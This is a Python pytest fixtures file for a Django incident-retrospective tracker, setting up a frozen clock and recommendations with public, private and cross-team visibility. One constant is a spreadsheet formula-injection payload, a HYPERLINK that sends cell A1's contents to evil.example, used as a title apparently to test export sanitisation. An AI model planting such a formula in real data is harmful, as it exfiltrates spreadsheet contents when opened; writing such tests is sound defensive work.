"""Fixtures of the tracking tests: a frozen clock, and recommendations of two teams, one of them called for only by a
private incident of payments (which charlie, of platform, must never see)."""

import datetime as dt
from dataclasses import dataclass

import pytest

FROZEN = dt.datetime(2030, 3, 10, 12, 0, tzinfo=dt.UTC)
TODAY = FROZEN.date()
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(name="frozen")
def frozen_fixture(monkeypatch):
    """timezone.now() is FROZEN everywhere (the selectors' today, the services' date rule, auto_now fields)."""
    from django.utils import timezone

    monkeypatch.setattr(timezone, "now", lambda: FROZEN)
    return FROZEN


def recommend(retrospective, people, *, title, by="alice", days=None, **fields):
    """A recommendation called for by `retrospective`, through the service; `days`: commitment date from TODAY."""
    from retrospector.actions.services import recommendation_create

    if days is not None:
        fields["commitment_date"] = TODAY + dt.timedelta(days=days)
    return recommendation_create(retrospective=retrospective, by=people[by], title=title, **fields)


def set_fields(recommendation, **fields):
    """Set fields the service would refuse (a date already past, a creation long ago) directly, as time would."""
    from retrospector.actions.models import Recommendation

    Recommendation.objects.filter(pk=recommendation.pk).update(**fields)
    recommendation.refresh_from_db()
    return recommendation


@dataclass
class Tracked:
    public: object  # payments, bob's, due in 10 days; on the public payments incident (service checkout)
    overdue: object  # payments, due 3 days ago, in progress
    private: object  # payments, only on a private payments incident
    platform: object  # platform, charlie's, a formula as its title, no date
    done: object  # payments, done
    retro_public: object
    retro_private: object
    retro_platform: object


@pytest.fixture(name="tracked")
def tracked_fixture(frozen, people, make_incident, make_retrospective):
    from retrospector.actions.services import recommendation_update

    public_incident = make_incident(title="Checkout errors", services=["checkout"])
    private_incident = make_incident(title="Card data in logs", visibility="private")
    platform_incident = make_incident(team="platform", title="Queue stalled", by="charlie")
    retro_public = make_retrospective(public_incident)
    retro_private = make_retrospective(private_incident)
    retro_platform = make_retrospective(platform_incident)

    public = recommend(retro_public, people, title="Alert on checkout latency", owner=people["bob"], days=10)
    overdue = recommend(retro_public, people, title="Retry card payments", owner=people["alice"], days=1, priority="P1")
    overdue = recommendation_update(recommendation=overdue, by=people["alice"], changes={"status": "in-progress"})
    set_fields(overdue, commitment_date=TODAY - dt.timedelta(days=3))
    private = recommend(retro_private, people, title="Scrub card numbers from logs", owner=people["alice"], days=5)
    platform = recommend(retro_platform, people, title=HYPERLINK, by="charlie", owner=people["charlie"])
    done = recommend(retro_public, people, title="Document the checkout runbook", days=2)
    done = recommendation_update(recommendation=done, by=people["bob"], changes={"status": "done"})
    return Tracked(public, overdue, private, platform, done, retro_public, retro_private, retro_platform)
